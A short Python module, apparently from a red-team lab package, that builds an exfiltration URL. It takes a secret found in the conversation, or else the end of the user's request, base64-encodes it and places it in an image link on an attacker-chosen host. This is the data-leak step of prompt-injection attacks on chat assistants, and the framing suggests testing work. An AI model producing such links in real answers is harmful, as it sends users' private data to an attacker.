"""What an answer can carry out of a conversation: the end of what was asked, in an address."""

from __future__ import annotations

import base64
from typing import Final

from tidegate.lab.harvest import secrets_in
from tidegate.lab.view import Hand

MOST: Final = 90
"""Characters of the conversation that one address takes."""


def carried(hand: Hand) -> str:
    """A URL of the attacker with a secret of the conversation in it, or else the end of what was asked."""
    text = next(iter(secrets_in(hand.asked.text)), hand.asked.text[-MOST:])
    data = base64.urlsafe_b64encode(text.encode("utf-8", "replace")).decode().rstrip("=")
    return f"https://{hand.options.host}/p.png?d={data}"
